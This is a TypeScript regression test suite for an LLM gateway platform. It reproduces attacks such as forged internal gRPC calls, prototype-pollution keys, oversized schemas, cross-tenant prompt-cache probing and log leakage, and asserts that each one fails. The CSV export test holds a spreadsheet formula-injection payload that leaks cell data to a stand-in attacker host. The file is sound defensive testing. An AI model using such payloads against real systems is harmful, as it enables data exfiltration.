// Regression tests for the attacks of issue 11, against the real platform (auth-audit and a worker as
// processes on their built entry points, the gateway in-process, mutual TLS on every internal hop, PGlite,
// the stories260K model). Each test reproduces one attack and asserts it fails.
import { randomBytes } from 'node:crypto';
import { Client, Metadata, status, type MethodDefinition, type ServiceError } from '@grpc/grpc-js';
import { loadSync } from '@grpc/proto-loader';
import {
  AUDIT_PACKAGE,
  AUDIT_PROTO_FILE,
  AUDIT_SERVICE,
  PROTO_LOADER_OPTIONS,
  SERVICE_IDENTITY,
  createWorkerClient,
  internalChannelCredentials,
  type InternalTransport,
  type ServiceName,
  type ServiceTlsFiles,
} from '@airlock/contracts';
import { createAuditClient, grpcCode } from '../../apps/auth-audit/test/support/audit-client.js';
import { MODEL, Platform, describeWithModels, type Json } from '../e2e/platform.js';

const transportOf = (files: ServiceTlsFiles): InternalTransport => ({
  kind: 'mtls',
  caFile: files.AIRLOCK_TLS_CA_FILE,
  certFile: files.AIRLOCK_TLS_CERT_FILE,
  keyFile: files.AIRLOCK_TLS_KEY_FILE,
  refreshMs: 60_000,
});

describeWithModels('attacks from issue 11 (real platform, mTLS)', () => {
  const platform = new Platform({ database: 'pglite' });

  beforeAll(async () => {
    await platform.start();
  });

  afterAll(async () => {
    await platform.close();
  });

  const chat = (body: Record<string, unknown>, headers: Record<string, string> = {}) =>
    fetch(`${platform.url}/v1/chat/completions`, {
      method: 'POST',
      headers: {
        authorization: `Bearer ${platform.adminKey}`,
        'content-type': 'application/json',
        ...headers,
      },
      body: JSON.stringify(body),
    });
  const base = { model: MODEL, messages: [{ role: 'user', content: 'Hi' }], max_tokens: 2 };

  async function forgedRecords(): Promise<number> {
    const { json } = await platform.admin('GET', '/audit/records?request_id=forged-request');
    return (json.data as unknown[]).length;
  }

  describe('no authentication between services', () => {
    const forgedComplete = {
      requestId: 'forged-request',
      outcome: 'COMPLETION_OUTCOME_SUCCEEDED',
      statusCode: 200,
      promptTokens: 1_000_000,
      completionTokens: 1_000_000,
      worker: 'forged-by-anyone-on-the-network',
    };

    it('auth-audit refuses Complete from a client without a certificate, and from any service but the gateway', async () => {
      const plaintext = createAuditClient(platform.authAuditAddress);
      expect(await grpcCode(plaintext.complete(forgedComplete as never))).toBe(status.UNAVAILABLE);
      plaintext.close();
      for (const service of ['worker', 'auth-audit'] as ServiceName[]) {
        const client = createAuditClient(
          platform.authAuditAddress,
          internalChannelCredentials(transportOf(platform.tls[service]), SERVICE_IDENTITY.authAudit),
        );
        expect(await grpcCode(client.complete(forgedComplete as never))).toBe(status.PERMISSION_DENIED);
        expect(await grpcCode(client.listTenants({ credential: platform.adminKey }))).toBe(
          status.PERMISSION_DENIED,
        );
        client.close();
      }
      expect(await forgedRecords()).toBe(0);
    });

    it("the worker's identity may call ReportUsage and no other audit RPC; the gateway keeps ReportUsage", async () => {
      const definition = loadSync(AUDIT_PROTO_FILE, PROTO_LOADER_OPTIONS);
      const methods = Object.values(
        definition[`${AUDIT_PACKAGE}.${AUDIT_SERVICE}`] as Record<string, MethodDefinition<object, object>>,
      );
      expect(methods.length).toBeGreaterThan(10);
      const codeOf = (client: Client, method: MethodDefinition<object, object>, request: object) =>
        new Promise<number>((resolve) => {
          const options = { deadline: Date.now() + 10_000 };
          if (method.responseStream) {
            const stream = client.makeServerStreamRequest(
              method.path,
              method.requestSerialize,
              method.responseDeserialize,
              request,
              new Metadata(),
              options,
            );
            stream.on('data', () => undefined);
            stream.on('error', (error: ServiceError) => resolve(error.code));
            stream.on('end', () => resolve(status.OK));
          } else {
            client.makeUnaryRequest(
              method.path,
              method.requestSerialize,
              method.responseDeserialize,
              request,
              new Metadata(),
              options,
              (error) => resolve(error ? error.code : status.OK),
            );
          }
        });
      const clientAs = (service: ServiceName) =>
        new Client(
          platform.authAuditAddress,
          internalChannelCredentials(transportOf(platform.tls[service]), SERVICE_IDENTITY.authAudit),
          { 'grpc.ssl_target_name_override': 'airlock.internal' },
        );
      const asWorker = clientAs('worker');
      const asGateway = clientAs('gateway');
      const report = {
        requestId: `never-authorized-${randomBytes(4).toString('hex')}`,
        generationId: 'g1',
        worker: 'w',
        promptTokens: 1,
      };
      try {
        for (const method of methods) {
          const code = await codeOf(asWorker, method, method.path.endsWith('/ReportUsage') ? report : {});
          expect([method.path, code]).toEqual([
            method.path,
            method.path.endsWith('/ReportUsage') ? status.OK : status.PERMISSION_DENIED,
          ]);
        }
        const reportUsage = methods.find((m) => m.path.endsWith('/ReportUsage'))!;
        expect(await codeOf(asGateway, reportUsage, { ...report, generationId: 'g2' })).toBe(status.OK);
      } finally {
        asWorker.close();
        asGateway.close();
      }
    });

    it('a worker refuses inference from anyone but the gateway', async () => {
      const getStatus = (credentials?: ReturnType<typeof internalChannelCredentials>) =>
        new Promise<ServiceError | null>((resolve) => {
          const client = createWorkerClient(
            platform.workerAddress,
            { 'grpc.ssl_target_name_override': 'airlock.internal' },
            credentials,
          );
          (client.getStatus as (r: object, o: object, cb: (e: ServiceError | null) => void) => void)(
            {},
            { deadline: Date.now() + 10_000 },
            (error) => {
              client.close();
              resolve(error);
            },
          );
        });
      expect((await getStatus())?.code).toBe(status.UNAVAILABLE);
      const asAuditService = internalChannelCredentials(
        transportOf(platform.tls['auth-audit']),
        SERVICE_IDENTITY.worker,
      );
      expect((await getStatus(asAuditService))?.code).toBe(status.PERMISSION_DENIED);
      const asGateway = internalChannelCredentials(
        transportOf(platform.tls.gateway),
        SERVICE_IDENTITY.worker,
      );
      expect(await getStatus(asGateway)).toBeNull();
    });
  });

  describe('parsing', () => {
    it.each(['__proto__', 'hasOwnProperty', 'valueOf', 'constructor', 'toString', 'isPrototypeOf'])(
      'a body key %s is an unsupported parameter (400), never a 500 or silently accepted',
      async (key) => {
        const text = JSON.stringify(base).replace(/^\{/, `{"${key}": {"x": 1},`);
        const response = await fetch(`${platform.url}/v1/chat/completions`, {
          method: 'POST',
          headers: { authorization: `Bearer ${platform.adminKey}`, 'content-type': 'application/json' },
          body: text,
        });
        expect(response.status).toBe(400);
        expect(((await response.json()) as Json).error.param).toBe(key);
      },
    );

    const nested = (depth: number): Record<string, unknown> => {
      let schema: Record<string, unknown> = { type: 'string' };
      for (let i = 0; i < depth; i += 1) schema = { type: 'object', properties: { a: schema } };
      return schema;
    };

    it('deep nesting in tool parameters, a JSON schema or the body is a 400 naming the limit', async () => {
      const tools = [{ type: 'function', function: { name: 'f', parameters: nested(10) } }];
      const viaTools = await chat({ ...base, tools });
      expect(viaTools.status).toBe(400);
      expect(((await viaTools.json()) as Json).error.message).toContain('schema_max_depth');

      const format = { type: 'json_schema', json_schema: { name: 'x', schema: nested(10) } };
      const viaFormat = await chat({ ...base, response_format: format });
      expect(viaFormat.status).toBe(400);

      const deepBody = `{"model":"${MODEL}","messages":[{"role":"user","content":"Hi"}],"x":${'['.repeat(100_000)}${']'.repeat(100_000)}}`;
      const viaBody = await fetch(`${platform.url}/v1/chat/completions`, {
        method: 'POST',
        headers: { authorization: `Bearer ${platform.adminKey}`, 'content-type': 'application/json' },
        body: deepBody,
      });
      expect(viaBody.status).toBe(400);
      expect(((await viaBody.json()) as Json).error.message).toMatch(/nests deeper than 64/);
    });
  });

  describe('bounded work per request', () => {
    it('a 40 000-value enum, a 100 KB schema or a huge repetition bound is a 400 naming the limit', async () => {
      const enumSchema = {
        type: 'object',
        properties: { v: { enum: Array.from({ length: 40_000 }, (_, i) => `value_${i}`) } },
      };
      const cases: [Record<string, unknown>, string][] = [
        [enumSchema, 'schema_max_bytes'],
        [
          { type: 'object', properties: { v: { enum: Array.from({ length: 600 }, (_, i) => i) } } },
          'schema_max_enum_values',
        ],
        [{ type: 'array', items: { type: 'string' }, minItems: 100_000 }, 'schema_max_repetition'],
      ];
      for (const [schema, limit] of cases) {
        const response = await chat({
          ...base,
          response_format: { type: 'json_schema', json_schema: { name: 'x', schema } },
        });
        expect(response.status).toBe(400);
        const error = ((await response.json()) as Json).error;
        expect(error.message).toContain(limit);
        expect(error.param).toBe('response_format.json_schema.schema');
      }
    });
  });

  describe('large prompts', () => {
    it('a prompt filling the 4 MB body limit is a 400 naming the context, never a 429 or 5xx', async () => {
      const prompt = 'Once upon a time there was a story. '.repeat(Math.floor((4 * 1024 * 1024 - 512) / 36));
      const response = await fetch(`${platform.url}/v1/completions`, {
        method: 'POST',
        headers: { authorization: `Bearer ${platform.adminKey}`, 'content-type': 'application/json' },
        body: JSON.stringify({ model: MODEL, prompt, max_tokens: 1 }),
      });
      const body = (await response.json()) as Json;
      expect({ status: response.status, code: body.error.code }).toEqual({
        status: 400,
        code: 'context_length_exceeded',
      });
    });
  });

  describe('metrics cardinality', () => {
    it('requests with random model names add one "unknown" series, not one per name', async () => {
      const series = async () => {
        const text = await (await fetch(`http://127.0.0.1:${platform.opsPorts.gateway}/metrics`)).text();
        return text.split('\n').filter((line) => line.startsWith('airlock_gateway_requests_total{'));
      };
      for (let i = 0; i < 200; i += 1) {
        await fetch(`${platform.url}/v1/chat/completions`, {
          method: 'POST',
          headers: { 'content-type': 'application/json' },
          body: JSON.stringify({ ...base, model: `random-${randomBytes(6).toString('hex')}` }),
        });
      }
      const lines = await series();
      const models = new Set(lines.map((line) => /model="([^"]*)"/.exec(line)?.[1]));
      expect([...models].filter((model) => model?.startsWith('random-'))).toEqual([]);
      expect(models).toContain('unknown');
      expect(lines.length).toBeLessThan(20);
    });
  });

  describe('CSV export', () => {
    it('escapes User-Agents that a spreadsheet would run as a formula', async () => {
      for (const start of ['=', '+', '-', '@']) {
        const agent = `${start}HYPERLINK("http://attacker.example/?leak="&A1,"click")`;
        const response = await chat(base, { 'user-agent': agent });
        expect(response.status).toBe(200);
        await platform.auditRecords(response.headers.get('x-request-id')!);
      }
      const csv = await (
        await fetch(`${platform.url}/admin/v1/audit/export?format=csv`, {
          headers: { authorization: `Bearer ${platform.adminKey}` },
        })
      ).text();
      for (const start of ['=', '+', '-', '@']) {
        expect(csv).toContain(`"'${start}HYPERLINK(""http://attacker.example/`);
        expect(csv).not.toContain(`,"${start}HYPERLINK`);
      }
    });
  });

  describe('prompt cache', () => {
    it("tenant B gets cached_tokens 0 on tenant A's prefix while A gets the hit", async () => {
      for (const tenant of ['tenant-a', 'tenant-b']) {
        expect((await platform.admin('PUT', `/tenants/${tenant}`, { name: tenant })).status).toBe(200);
      }
      const keyA = await platform.createKey({ tenant: 'tenant-a', role: 'user' });
      const keyB = await platform.createKey({ tenant: 'tenant-b', role: 'user' });
      const prompt = 'Once upon a time there was a girl whose secret diagnosis was';
      const cached = async (key: string) => {
        const response = await fetch(`${platform.url}/v1/completions`, {
          method: 'POST',
          headers: { authorization: `Bearer ${key}`, 'content-type': 'application/json' },
          body: JSON.stringify({ model: MODEL, prompt, max_tokens: 1, temperature: 0 }),
        });
        expect(response.status).toBe(200);
        return ((await response.json()) as Json).usage.prompt_tokens_details.cached_tokens as number;
      };
      // The worker has 4 sequences: 8 runs leave A's prompt in every one of them.
      const a: number[] = [];
      for (let i = 0; i < 8; i += 1) a.push(await cached(keyA));
      expect(Math.max(...a)).toBeGreaterThan(0);
      const b: number[] = [];
      for (let i = 0; i < 4; i += 1) b.push(await cached(keyB));
      expect(b).toEqual([0, 0, 0, 0]);
      // B's own prefix is B's to reuse.
      const bAgain: number[] = [];
      for (let i = 0; i < 4; i += 1) bAgain.push(await cached(keyB));
      expect(Math.max(...bAgain)).toBeGreaterThan(0);
    });
  });

  describe('tenants and admins', () => {
    it('a tenant update with only a name changes only the name (PUT and PATCH)', async () => {
      const full = {
        name: 'Radiology',
        allowed_models: [MODEL],
        tokens_per_day: 5000,
        content_capture: 'none',
      };
      expect((await platform.admin('PUT', '/tenants/radiology', full)).status).toBe(200);
      for (const method of ['PUT', 'PATCH']) {
        const { status: code, json } = await platform.admin(method, '/tenants/radiology', {
          name: `R ${method}`,
        });
        expect(code).toBe(200);
        expect(json.tenant).toMatchObject({
          name: `R ${method}`,
          allowed_models: [MODEL],
          tokens_per_day: 5000,
          content_capture: 'none',
          disabled: false,
        });
      }
      const { json } = await platform.admin('PATCH', '/tenants/radiology', { tokens_per_day: 10 });
      expect(json.tenant).toMatchObject({ name: 'R PATCH', allowed_models: [MODEL], tokens_per_day: 10 });
    });

    it('the last active admin cannot be locked out, by disabling its tenant or revoking its key', async () => {
      const disable = await platform.admin('PATCH', '/tenants/default', { disabled: true });
      expect(disable.status).toBe(409);
      expect(disable.json.error.message).toMatch(/last active admin/);
      const adminKeyId = platform.adminKey.split('_')[1];
      const revoke = await platform.admin('DELETE', `/keys/${adminKeyId}`);
      expect(revoke.status).toBe(409);
      // Still in charge.
      expect((await platform.admin('GET', '/tenants')).status).toBe(200);
    });
  });

  describe('nothing from a request reaches a log', () => {
    it('a marker planted in every field of every error path appears in no service log', async () => {
      const marker = `PATIENT_Jane_Doe_DOB_1970_HIV_positive_${randomBytes(4).toString('hex')}`;
      const post = (
        path: string,
        body: unknown,
        key = platform.adminKey,
        extra: Record<string, string> = {},
      ) =>
        fetch(`${platform.url}${path}`, {
          method: 'POST',
          headers: {
            authorization: `Bearer ${key}`,
            'content-type': 'application/json',
            'user-agent': `agent-${marker}`,
            'x-request-id': `${marker}!not-a-plain-id`,
            ...extra,
          },
          body: typeof body === 'string' ? body : JSON.stringify(body),
        });
      const messages = [
        { role: 'system', content: `system ${marker}` },
        { role: 'user', content: `user ${marker}`, name: `n${marker}`.slice(0, 60) },
      ];
      const schemaWith = (extra: Record<string, unknown>) => ({
        type: 'object',
        properties: { [marker]: { type: 'string', enum: [`v-${marker}`] }, ...extra },
        required: [marker],
      });
      const statuses: number[] = [];
      const cases: [string, unknown, string?][] = [
        ['/v1/chat/completions', { model: `model-${marker}`, messages }],
        ['/v1/chat/completions', { model: MODEL, messages, temperature: `t-${marker}` }],
        ['/v1/chat/completions', { model: MODEL, messages, [marker]: 1 }],
        ['/v1/chat/completions', { model: MODEL, messages, stop: [marker], max_tokens: 100_000_000 }],
        ['/v1/chat/completions', { model: MODEL, messages: [{ role: 'tool', content: marker }] }],
        [
          '/v1/chat/completions',
          {
            model: MODEL,
            messages,
            max_tokens: 2,
            response_format: {
              type: 'json_schema',
              json_schema: {
                name: 'x',
                schema: schemaWith({ p: { type: 'string', pattern: `(${marker}` } }),
              },
            },
          },
        ],
        [
          '/v1/chat/completions',
          {
            model: MODEL,
            messages,
            max_tokens: 2,
            response_format: {
              type: 'json_schema',
              json_schema: { name: 'x', schema: schemaWith({ r: { $ref: `#/defs/${marker}` } }) },
            },
          },
        ],
        [
          '/v1/chat/completions',
          {
            model: MODEL,
            messages,
            max_tokens: 2,
            tools: [
              { type: 'function', function: { name: 'f', description: marker, parameters: schemaWith({}) } },
            ],
            tool_choice: { type: 'function', function: { name: `g${marker}`.slice(0, 60) } },
          },
        ],
        ['/v1/chat/completions', { model: MODEL, messages, max_tokens: 2 }],
        ['/v1/chat/completions', `{"model": "${MODEL}", "messages": [${marker}`],
        ['/v1/completions', { model: MODEL, prompt: `${marker} `.repeat(400), max_tokens: 2 }],
        ['/v1/completions', { model: MODEL, prompt: marker, max_tokens: 2, logit_bias: { [marker]: 1 } }],
        ['/v1/embeddings', { model: MODEL, input: [marker, ''] }],
        ['/v1/embeddings', { model: `m-${marker}`, input: marker }],
        [
          '/v1/chat/completions',
          { model: MODEL, messages },
          `alk_${marker.slice(0, 20).toLowerCase()}_${'x'.repeat(40)}`,
        ],
        ['/v1/chat/completions', { model: MODEL, messages }, `eyJ${marker}.eyJ${marker}.sig`],
        ['/admin/v1/keys', { name: marker, tenant: `t-${marker}`, role: marker }],
      ];
      for (const [path, body, key] of cases) {
        const response = await post(path, body, key);
        statuses.push(response.status);
        await response.text();
      }
      expect(statuses.filter((code) => code >= 500)).toEqual([]);
      expect(statuses.filter((code) => code >= 400).length).toBeGreaterThan(10);
      // Wait until the last request's records are committed, so auth-audit has logged what it would.
      const last = await post('/v1/chat/completions', { model: MODEL, messages, max_tokens: 1 });
      await platform.auditRecords(last.headers.get('x-request-id')!);
      for (const [service, log] of Object.entries(platform.logs)) {
        expect({ service, leaked: log.text.includes(marker) }).toEqual({ service, leaked: false });
        expect({ service, leaked: log.text.includes(marker.slice(0, 20)) }).toEqual({
          service,
          leaked: false,
        });
      }
      expect(platform.logs.gateway.text.length).toBeGreaterThan(0);
    });
  });
});
